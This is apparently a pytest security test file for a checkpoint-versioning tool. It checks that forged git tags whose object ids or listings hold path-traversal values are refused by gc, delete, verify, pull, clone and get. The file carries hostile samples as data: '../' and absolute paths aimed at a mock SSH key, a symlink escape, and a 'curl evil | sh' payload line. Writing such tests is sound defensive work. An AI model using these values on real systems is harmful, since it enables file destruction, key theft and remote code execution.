"""Issue 19, family 1: object ids read from git are untrusted.

A teammate commits and tags, with plain git, a version whose pointer (or whose ``.dir``
listing) names an "md5" that is a path. No command may turn it into a path or a key:
``gc``, ``delete`` and ``verify --deep --repair`` must not delete the file it names,
``verify --remote --repair`` must not upload it, ``pull`` must not write outside the
folder; each refuses that version, naming it (real git, the local default, moto S3).
"""

from __future__ import annotations

import hashlib
import json
import subprocess
from collections.abc import Callable
from pathlib import Path

import boto3
import pytest

from cpv import ModelCheckpoints
from cpv.core.repo import ModelRepo
from cpv.domain.metadata import encode_tag_message
from cpv.objects.layout import cache_dir, place_object
from cpv.ops.init import init_repository
from cpv.ops.push import push
from tests.conftest import git as _git
from tests.conftest import run_cpv, write_checkpoint

SECRET = b"-----BEGIN OPENSSH PRIVATE KEY----- not really\n"


def _pointer(md5: str) -> str:
    return f"outs:\n- md5: {md5}\n  size: 6\n  nfiles: 1\n  hash: md5\n  path: checkpoints\n"


def _listing(repo: Path, entries: list[dict[str, str]]) -> str:
    """A ``.dir`` listing holding ``entries`` put in the cache under its real hash: the
    object is genuine, what it names is not."""
    manifest = json.dumps(entries, sort_keys=True).encode()
    oid = hashlib.md5(manifest).hexdigest() + ".dir"
    place_object(cache_dir(repo), oid, data=manifest, durable=False)
    return oid


def _forge(repo: Path, version: str, md5: str) -> str:
    """``model/<version>`` made with plain git: a commit whose pointer names ``md5``, tagged
    with cpv's metadata copied from the latest version; the branch left where it was."""
    latest = ModelRepo.open(repo).records()[-1]
    (repo / "checkpoints.dvc").write_text(_pointer(md5))
    _git(repo, "commit", "-qam", f"checkpoints {version}")
    record = latest.model_copy(
        update={"version": version, "tag": f"model/{version}", "content_hash": md5}
    )
    message = repo / ".git" / "forged-message"
    message.write_text(encode_tag_message(record))
    _git(repo, "tag", "-a", "--cleanup=verbatim", "-F", str(message), f"model/{version}")
    _git(repo, "reset", "-q", "--hard", "HEAD~1")
    return f"model/{version}"


def _versions(repo: Path, *contents: bytes) -> None:
    for content in contents:
        write_checkpoint(repo, content)
        ModelCheckpoints(repo).tag()


def _climbing(victim: Path) -> str:
    return "../../../../../../../../../.." + str(victim)


def _double_slash(victim: Path) -> str:
    return "//" + str(victim).lstrip("/")


def _in_listing(make: Callable[[Path], str]) -> Callable[[Path, Path], str]:
    def build(repo: Path, victim: Path) -> str:
        return _listing(repo, [{"md5": make(victim), "relpath": "model.bin"}])

    return build


HOSTILE: dict[str, Callable[[Path, Path], str]] = {
    "pointer ../ path": lambda repo, victim: _climbing(victim),
    "pointer absolute path": lambda repo, victim: _double_slash(victim),
    "listing ../ path": _in_listing(_climbing),
    "listing absolute path": _in_listing(_double_slash),
}


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    path = tmp_path / "outside" / "id_ed25519"
    path.parent.mkdir()
    path.write_bytes(SECRET)
    return path


def _refused(proc: subprocess.CompletedProcess[str], tag: str) -> None:
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr
    assert tag in proc.stdout + proc.stderr


@pytest.mark.parametrize("form", HOSTILE)
def test_gc_and_delete_never_delete_what_a_forged_id_names(
    repo: Path, victim: Path, form: str
) -> None:
    _versions(repo, b"one")
    tag = _forge(repo, "v0.2", HOSTILE[form](repo, victim))
    _versions(repo, b"three")
    gc = run_cpv("gc", "--keep-last", "1", cwd=repo, check=False)
    _refused(gc, tag)
    assert gc.stderr.startswith("Error:") and " is not a" in gc.stderr
    assert victim.read_bytes() == SECRET
    # --force: v0.2 was never pushed, and only then would a plain delete go as far as its ids
    delete = run_cpv("delete", "v0.2", "--force", cwd=repo, check=False)
    _refused(delete, tag)
    assert _git(repo, "tag", "-l", "model/v0.2")  # not dropped either
    assert victim.read_bytes() == SECRET
    assert not _git(repo, "tag", "-l", "removed/*")  # nothing was marked either


@pytest.mark.parametrize("form", HOSTILE)
def test_deep_repair_never_deletes_what_a_forged_id_names(
    repo: Path, victim: Path, form: str
) -> None:
    _versions(repo, b"one")
    push(repo)
    tag = _forge(repo, "v0.2", HOSTILE[form](repo, victim))
    _refused(run_cpv("push", cwd=repo, check=False), tag)  # never published from here
    proc = run_cpv(
        "verify", "--all-versions", "--deep", "--repair", "--json", cwd=repo, check=False
    )
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert victim.read_bytes() == SECRET
    report = json.loads(proc.stdout)
    refused = [v for v in report["versions"] if v["refused"]]
    assert [v["version"] for v in refused] == [tag]
    assert tag in refused[0]["refused"]
    assert (
        report["versions"][0]["version"] == "model/v0.1"
        and report["versions"][0]["refused"] is None
    )
    text = run_cpv("verify", "--all-versions", "--deep", "--repair", cwd=repo, check=False)
    assert f"{tag}: REFUSED" in text.stdout and victim.read_bytes() == SECRET


@pytest.mark.parametrize("form", ["pointer ../ path", "listing absolute path"])
def test_remote_repair_never_uploads_what_a_forged_id_names(
    tmp_path: Path, victim: Path, s3_user_config: str, s3_endpoint: str, form: str
) -> None:
    repo = init_repository(team="acme", model="m", path=tmp_path / "m")
    _versions(repo, b"one")
    push(repo)
    _forge(repo, "v0.2", HOSTILE[form](repo, victim))
    proc = run_cpv("verify", "--all-versions", "--remote", "--repair", cwd=repo, check=False)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert "storage repaired" not in proc.stdout
    s3 = boto3.client("s3", endpoint_url=s3_endpoint, region_name="us-east-1")
    keys = [o["Key"] for o in s3.list_objects_v2(Bucket="cpv-test").get("Contents", [])]
    bodies = [s3.get_object(Bucket="cpv-test", Key=k)["Body"].read() for k in keys]
    assert SECRET not in bodies, keys
    objects = [k for k in keys if "files/md5" in k]
    assert len(objects) == 2 and all(k.startswith("acme/m/files/md5/") for k in objects)


def test_pull_never_writes_outside_the_folder(repo: Path, tmp_path: Path) -> None:
    _versions(repo, b"one")
    outside = tmp_path / "outside.txt"
    outside.write_bytes(b"mine")
    place_object(cache_dir(repo), hashlib.md5(b"pwned").hexdigest(), data=b"pwned")
    escape = "../" * (len(repo.parts) + 2) + str(outside).lstrip("/")
    for relpath in (escape, "a/../../../outside.txt", "/" + str(outside).lstrip("/")):
        oid = _listing(repo, [{"md5": hashlib.md5(b"pwned").hexdigest(), "relpath": relpath}])
        tag = _forge(repo, f"v0.{len(ModelRepo.open(repo).records()) + 1}", oid)
        before = sorted(p.name for p in (repo / "checkpoints").iterdir())
        proc = run_cpv("pull", tag, "--force", cwd=repo, check=False)
        _refused(proc, tag)
        assert "not a path inside its folder" in proc.stderr
        assert outside.read_bytes() == b"mine"
        assert sorted(p.name for p in (repo / "checkpoints").iterdir()) == before
        assert not (tmp_path / "a").exists()


def test_checkout_does_not_follow_a_workspace_link_out_of_the_folder(
    repo: Path, tmp_path: Path
) -> None:
    write_checkpoint(repo, b"one", "sub/model.bin")
    ModelCheckpoints(repo).tag()
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    import shutil

    shutil.rmtree(repo / "checkpoints" / "sub")
    (repo / "checkpoints" / "sub").symlink_to(outside, target_is_directory=True)
    proc = run_cpv("pull", "v0.1", "--force", cwd=repo, check=False)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    assert "outside checkpoints/" in proc.stderr
    assert list(outside.iterdir()) == []


def test_a_forged_version_pushed_with_plain_git_is_refused_by_clone_and_get(
    repo: Path, tmp_path: Path
) -> None:
    """The teammate pushes the forged tag with plain git and puts its (genuine) listing in
    the storage; whoever clones or gets that version has nothing written outside."""
    from cpv.objects.store import store_for

    _versions(repo, b"one")
    push(repo)
    outside = tmp_path / "outside.txt"
    outside.write_bytes(b"mine")
    pwned = hashlib.md5(b"pwned").hexdigest()
    place_object(cache_dir(repo), pwned, data=b"pwned")
    oid = _listing(repo, [{"md5": pwned, "relpath": "../../outside.txt"}])
    tag = _forge(repo, "v0.2", oid)
    store = store_for(repo)
    for each in (pwned, oid):
        store.upload(each, cache_dir(repo) / "files" / "md5" / each[:2] / each[2:])
    _git(repo, "push", "-q", "origin", tag)
    work = tmp_path / "work"
    work.mkdir()
    clone = run_cpv("clone", "acme/whisper-small", "other", "--ref", "v0.2", cwd=work, check=False)
    _refused(clone, tag)
    assert not (work / "other").exists()  # a failed clone leaves nothing behind
    get = run_cpv("get", "acme/whisper-small@v0.2", "got", cwd=work, check=False)
    _refused(get, "v0.2")
    assert "not a path inside its folder" in get.stderr
    assert outside.read_bytes() == b"mine"
    assert not (work / "outside.txt").exists() and not (tmp_path / "outside.txt.tmp").exists()


EVIL = b"import os; os.system('curl evil | sh')\n"


def _single_file(md5: str, *, path: str, extra: str = "", top: str = "") -> str:
    return f"{top}outs:\n- md5: {md5}\n  size: {len(EVIL)}\n  hash: md5\n  path: {path}\n{extra}"


@pytest.mark.parametrize(
    "shape", ["path names another file", "a second output", "a working directory"]
)
def test_a_pointer_never_makes_dvc_write_another_file(repo: Path, shape: str) -> None:
    _versions(repo, b"one")
    (repo / "train.py").write_text("print('mine')\n")
    evil = hashlib.md5(EVIL).hexdigest()
    place_object(cache_dir(repo), evil, data=EVIL)
    text = {
        "path names another file": _single_file(evil, path="train.py"),
        "a second output": _single_file(evil, path="checkpoints")
        + f"- md5: {evil}\n  size: {len(EVIL)}\n  hash: md5\n  path: train.py\n",
        "a working directory": _single_file(evil, path="train.py", top="wdir: .\n"),
    }[shape]
    tag = _forge_text(repo, "v0.2", text, evil)
    proc = run_cpv("pull", tag, "--force", cwd=repo, check=False)
    assert (repo / "train.py").read_text() == "print('mine')\n"
    _refused(proc, tag)


def _forge_text(repo: Path, version: str, pointer: str, md5: str) -> str:
    tag = _forge(repo, version, md5)
    commit = _git(repo, "rev-list", "-n1", tag).strip()
    _git(repo, "tag", "-d", tag)
    _git(repo, "checkout", "-q", commit)
    (repo / "checkpoints.dvc").write_text(pointer)
    _git(repo, "commit", "-qam", "single file")
    message = repo / ".git" / "forged-message"
    _git(repo, "tag", "-a", "--cleanup=verbatim", "-F", str(message), tag)
    _git(repo, "checkout", "-q", "-")
    return tag


def test_dvc_checkout_itself_refuses_a_listing_that_leaves_the_folder(
    repo: Path, tmp_path: Path
) -> None:
    """The adapter every DVC checkout goes through (a transaction's rollback too) reads the
    listing the pointer names before DVC writes the files it lists."""
    from cpv._dvc import repo as _dvc
    from cpv.domain.errors import InvalidObjectIdError

    _versions(repo, b"one")
    outside = repo.parent / "outside.txt"
    outside.write_bytes(b"mine")
    pwned = hashlib.md5(b"pwned").hexdigest()
    place_object(cache_dir(repo), pwned, data=b"pwned")
    oid = _listing(repo, [{"md5": pwned, "relpath": "../outside.txt"}])
    (repo / "checkpoints.dvc").write_text(_pointer(oid))
    with pytest.raises(InvalidObjectIdError, match="not a path inside its folder"):
        _dvc.checkout(repo, "checkpoints.dvc")
    assert outside.read_bytes() == b"mine"
